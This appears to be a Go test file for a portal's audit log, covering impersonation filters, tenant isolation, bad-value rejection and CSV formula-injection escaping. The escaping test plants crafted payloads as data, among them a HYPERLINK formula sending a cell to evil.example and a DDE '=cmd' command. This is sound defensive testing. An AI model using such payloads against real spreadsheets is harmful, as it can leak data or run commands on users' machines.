package web_test

import (
	"context"
	"encoding/csv"
	"html"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/atrium-portal/atrium/app/audit"
)

// TestAuditCSVEscapesEveryCell: a name, an address or a summary that starts
// a formula comes out of the export as text, in every column.
func TestAuditCSVEscapesEveryCell(t *testing.T) {
	e := newEnv(t, nil)
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
	if _, err := e.db.W.ExecContext(ctx, "UPDATE users SET name = ? WHERE email = 'ada@acme.test'", evil); err != nil {
		t.Fatal(err)
	}
	ada := e.client("acme.localhost").mustLogin("ada@acme.test", "demo-pass-1")
	acme, err := e.tenants.BySlug(ctx, "acme")
	if err != nil {
		t.Fatal(err)
	}
	if err := audit.Record(ctx, e.db.Tenant(acme.ID), audit.Who{Address: "@SUM(1+1)"}, audit.SettingsChange, "=cmd|' /C calc'!A0", 0, evil); err != nil {
		t.Fatal(err)
	}
	r := ada.get("/audit.csv")
	if r.status != 200 {
		t.Fatalf("export: %d", r.status)
	}
	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell starts a formula: %q", cell)
			}
			if strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "SUM(") || strings.Contains(cell, "calc") {
				seen++
			}
		}
	}
	if seen < 3 {
		t.Errorf("the crafted cells are missing from the export (%d):\n%s", seen, r.body)
	}
}

// previewedByAda is ada's preview of tess, the test user, in which tess
// opens a ticket, then alan's read-only preview of erin: two admins'
// previews in the log, between entries of no preview (sign-ins).
func previewedByAda(t *testing.T, e *env) (ada *client, adaID, tessID int64) {
	t.Helper()
	adaID, tessID = userID(t, e, "acme", "ada@acme.test"), userID(t, e, "acme", "tess@acme.test")
	ada = e.client("acme.localhost").mustLogin("ada@acme.test", "demo-pass-1")
	if r := ada.api("POST", "/api/v1/previews", map[string]any{"user_id": tessID}); r.status != 201 {
		t.Fatalf("ada previews tess: %d %s", r.status, r.body)
	}
	r := ada.api("POST", "/api/v1/tickets", map[string]any{"title": "Printer jams", "board_id": boardID(t, e, "acme", "Service Desk"),
		"company_id": lookupID(t, e, "company", "acme", "Acme Test Co")})
	if r.status != 201 {
		t.Fatalf("tess opens a ticket: %d %s", r.status, r.body)
	}
	if r := ada.api("DELETE", "/api/v1/previews/current", nil); r.status != 204 {
		t.Fatalf("ada ends the preview: %d %s", r.status, r.body)
	}
	alan := e.client("acme.localhost").mustLogin("alan@acme.test", "demo-pass-1")
	if r := alan.api("POST", "/api/v1/previews", map[string]any{"user_id": userID(t, e, "acme", "erin@globex.test")}); r.status != 201 {
		t.Fatalf("alan previews erin: %d %s", r.status, r.body)
	}
	if r := alan.api("DELETE", "/api/v1/previews/current", nil); r.status != 204 {
		t.Fatalf("alan ends the preview: %d %s", r.status, r.body)
	}
	return ada, adaID, tessID
}

// auditActions are the actions of an audit API answer, newest first.
func auditActions(t *testing.T, r response) []string {
	t.Helper()
	var out []string
	for _, it := range items(t, r) {
		out = append(out, it["action"].(string))
	}
	return out
}

// TestAuditFilterByImpersonator: filtering the log by who previewed keeps
// that admin's preview: its start and end, which the admin recorded as
// themselves, and the ticket tess opened while ada previewed her, with ada
// as its impersonator; no entry outside a preview, none of alan's. "Any
// preview" keeps both admins' previews. The API, the page (and its export
// link) and the CSV export agree.
func TestAuditFilterByImpersonator(t *testing.T) {
	e := newEnv(t, nil)
	ada, adaID, tessID := previewedByAda(t, e)
	alanID := userID(t, e, "acme", "alan@acme.test")
	ida := strconv.FormatInt(adaID, 10)
	adaPreview := []string{"preview.end", "ticket.create", "preview.start"}

	r := ada.get("/api/v1/audit?impersonator_id=" + ida)
	if got := auditActions(t, r); !slices.Equal(got, adaPreview) {
		t.Fatalf("impersonator_id=ada: %q, want %q\n%s", got, adaPreview, r.body)
	}
	for _, it := range items(t, r) {
		actor, _ := it["actor"].(map[string]any)
		imp, _ := it["impersonator"].(map[string]any)
		switch it["action"] {
		case "ticket.create":
			if actor["id"] != float64(tessID) || imp["id"] != float64(adaID) || imp["email"] != "ada@acme.test" {
				t.Errorf("the write in the preview: actor %v, impersonator %v", actor, imp)
			}
		default: // ada's own record of the preview
			if actor["id"] != float64(adaID) || imp != nil || it["object_id"] != float64(tessID) {
				t.Errorf("%s: actor %v, impersonator %v, object %v", it["action"], actor, imp, it["object_id"])
			}
		}
	}
	if got := auditActions(t, ada.get("/api/v1/audit?impersonator_id="+strconv.FormatInt(alanID, 10))); !slices.Equal(got, []string{"preview.end", "preview.start"}) {
		t.Errorf("impersonator_id=alan: %q", got)
	}
	if got := auditActions(t, ada.get("/api/v1/audit?impersonator_id="+strconv.FormatInt(tessID, 10))); len(got) != 0 {
		t.Errorf("impersonator_id=tess, who previewed nobody: %q", got)
	}
	anyPreview := []string{"preview.end", "preview.start", "preview.end", "ticket.create", "preview.start"}
	for _, q := range []string{"impersonator_id=any", "impersonator=any", "impersonator=any&impersonator_id=any"} {
		if got := auditActions(t, ada.get("/api/v1/audit?"+q)); !slices.Equal(got, anyPreview) {
			t.Errorf("%s: %q, want %q", q, got, anyPreview)
		}
	}
	// Both at once narrow to both: ada's preview.
	if got := auditActions(t, ada.get("/api/v1/audit?impersonator=any&impersonator_id="+ida)); !slices.Equal(got, adaPreview) {
		t.Errorf("impersonator=any and impersonator_id=ada: %q", got)
	}
	// With another filter, and through the pages of a cursor.
	if got := auditActions(t, ada.get("/api/v1/audit?action=ticket.&impersonator_id="+ida)); !slices.Equal(got, []string{"ticket.create"}) {
		t.Errorf("action=ticket. and impersonator_id=ada: %q", got)
	}
	first := ada.get("/api/v1/audit?limit=2&impersonator_id=" + ida)
	next, _ := first.json(t)["next_cursor"].(string)
	if got := append(auditActions(t, first), auditActions(t, ada.get("/api/v1/audit?limit=2&impersonator_id="+ida+"&cursor="+next))...); !slices.Equal(got, adaPreview) {
		t.Errorf("two pages: %q (cursor %q)", got, next)
	}

	// The page: the filter with its choices, the rows, the count, the export.
	page := ada.get("/audit?impersonator_id=" + ida)
	if page.status != 200 {
		t.Fatalf("page: %d %s", page.status, page.body)
	}
	body := html.UnescapeString(page.body)
	for _, want := range []string{
		`<label for="audit-rows-impersonator_id">Previewed by</label>`,
		`<option value="">All records</option>`, `<option value="any">Any preview</option>`,
		`<option value="` + ida + `" selected>Ada Lovelace</option>`, `<option value="` + strconv.FormatInt(alanID, 10) + `">Alan Turing</option>`,
		"3 records", `<td data-label="Action">Started a preview</td>`, `<td data-label="Action">Opened a ticket</td>`,
		`<td data-label="Action">Ended a preview</td>`, "(previewed by Ada Lovelace <ada@acme.test>)",
		`href="/audit.csv?impersonator_id=` + ida + `"`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
	for _, not := range []string{`<td data-label="Action">Signed in</td>`, `<option value="` + strconv.FormatInt(tessID, 10) + `"`} {
		if strings.Contains(body, not) {
			t.Errorf("the page has %s", not)
		}
	}
	if page := html.UnescapeString(ada.get("/audit?impersonator=any").body); !strings.Contains(page, `<option value="any" selected>Any preview</option>`) || !strings.Contains(page, "5 records") {
		t.Errorf("impersonator=any on the page: not marked, or not 5 records")
	}
	// The htmx swap of the filters answers the list alone.
	if r := ada.do("GET", "/audit?impersonator_id="+ida, nil, "", map[string]string{"HX-Request": "true", "HX-Target": "audit-rows"}); r.status != 200 || strings.Contains(r.body, "<html") || !strings.Contains(r.body, "3 records") {
		t.Errorf("htmx filter: %d %.200s", r.status, r.body)
	}

	// The export.
	export := ada.get("/audit.csv?impersonator_id=" + ida)
	if export.status != 200 {
		t.Fatalf("export: %d %s", export.status, export.body)
	}
	rows, err := csv.NewReader(strings.NewReader(export.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var actions []string
	for _, row := range rows[1:] {
		actions = append(actions, row[3])
		if row[3] == "ticket.create" && (!strings.Contains(row[1], "tess@acme.test") || !strings.Contains(row[2], "ada@acme.test")) {
			t.Errorf("the write's row: actor %q, impersonator %q", row[1], row[2])
		}
	}
	if !slices.Equal(actions, adaPreview) {
		t.Errorf("export: %q, want %q", actions, adaPreview)
	}

	// Another tenant's admin filtering by ada's ID finds nothing of Acme's.
	nina := e.client("northwind.localhost").mustLogin("nina@northwind.test", "demo-pass-1")
	if got := auditActions(t, nina.get("/api/v1/audit?impersonator_id="+ida)); len(got) != 0 {
		t.Errorf("northwind reads acme's previews: %q", got)
	}
	if page := nina.get("/audit"); strings.Contains(page.body, "Ada Lovelace") {
		t.Error("northwind's Previewed by offers acme's ada")
	}
}

// TestAuditFilterByImpersonatorRefusesBadValues: a value that is not a
// user's ID or "any" is a 400 that names its field, in the API, the page
// (by the field, the value not echoed) and the export.
func TestAuditFilterByImpersonatorRefusesBadValues(t *testing.T) {
	e := newEnv(t, nil)
	ada := e.client("acme.localhost").mustLogin("ada@acme.test", "demo-pass-1")
	for _, q := range []string{"impersonator_id=ada", "impersonator_id=0", "impersonator_id=-3", "impersonator_id=1.5",
		"impersonator_id=99999999999999999999", "impersonator_id=%3Cb%3Eada", "impersonator=all", "impersonator=1"} {
		field, _, _ := strings.Cut(q, "=")
		r := ada.get("/api/v1/audit?" + q)
		fields, _ := r.json(t)["error"].(map[string]any)["fields"].(map[string]any)
		if r.status != 400 || fields[field] == nil || len(fields) != 1 {
			t.Errorf("API %s: %d %s", q, r.status, r.body)
		}
		if r := ada.get("/audit.csv?" + q); r.status != 400 {
			t.Errorf("export %s: %d", q, r.status)
		}
		page := ada.get("/audit?" + q)
		if page.status != 400 || !strings.Contains(page.body, `id="audit-rows-impersonator_id-error"`) || strings.Contains(page.body, "<b>") {
			t.Errorf("page %s: %d\n%s", q, page.status, page.body)
		}
	}
	if r := ada.get("/audit?impersonator_id=x"); !strings.Contains(r.body, "Previewed by: Choose someone from the list, or any.") {
		t.Errorf("the page does not say what to fix:\n%s", r.body)
	}
}
